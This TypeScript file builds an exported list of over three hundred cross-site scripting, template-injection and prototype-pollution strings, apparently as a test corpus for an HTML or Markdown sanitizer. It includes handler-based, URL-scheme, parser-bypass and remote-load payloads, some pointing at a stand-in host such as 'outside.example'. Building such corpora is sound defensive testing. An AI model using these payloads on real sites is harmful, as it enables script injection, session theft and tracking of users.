const hit = 'top.hit=1';
const away = 'https://outside.example/x';

const tags = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'object',
  'input',
  'details',
  'marquee',
  'math',
  'style',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter'];

/** A script in every attribute that could run one. */
const byHandler = tags.flatMap((tag) =>
  handlers.map((name) => `<${tag} src=x data=x open autofocus ${name}="${hit}">${tag}</${tag}>`),
);

const byAddress = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
].flatMap((scheme) => [
  `<a href="${scheme}${hit}">a</a>`,
  `<iframe src="${scheme}${hit}"></iframe>`,
  `<form action="${scheme}${hit}"><button>b</button></form>`,
  `<object data="${scheme}${hit}"></object>`,
  `![p](${scheme}${hit})`,
  `[l](${scheme}${hit})`,
  `<svg><a xlink:href="${scheme}${hit}"><text>t</text></a></svg>`,
]);

/** What asks another place for something as soon as it is shown. */
const byRequest = [
  `<img src="${away}">`,
  `<img srcset="${away} 1x">`,
  `<link rel=stylesheet href="${away}">`,
  `<style>@import "${away}"; body{background:url(${away})}</style>`,
  `<p style="background:url(${away})">p</p>`,
  `<video poster="${away}"></video>`,
  `<object data="${away}"></object>`,
  `<embed src="${away}">`,
  `<iframe src="${away}"></iframe>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}">`,
  `<table background="${away}"><tr><td>t</table>`,
  `![p](${away})`,
];

const bySyntax = [
  `<script>${hit}</script>`,
  `<script src="${away}"></script>`,
  `"><script>${hit}</script>`,
  `'"><svg/onload=${hit}>`,
  `</textarea><script>${hit}</script>`,
  `</title><script>${hit}</script>`,
  `<!--><script>${hit}</script>-->`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
  `<svg><script>${hit}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${hit}></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<template><script>${hit}</script></template>`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `\u003cimg src=x onerror=${hit}\u003e`,
  '{{constructor.constructor("top.hit=1")()}}',
  '${top.hit=1}',
  '<%= top.hit=1 %>',
  '__proto__[hit]=1',
  `<img src=x onerror=${hit}//`,
];

const plain = [...byHandler, ...byAddress, ...byRequest, ...bySyntax];

/** More than three hundred ways to make a page do what its reader did not ask for. */
export const hostileWords: string[] = [...plain, ...plain.map((it) => `Hello <b title="${it}">${it}</b>`)];
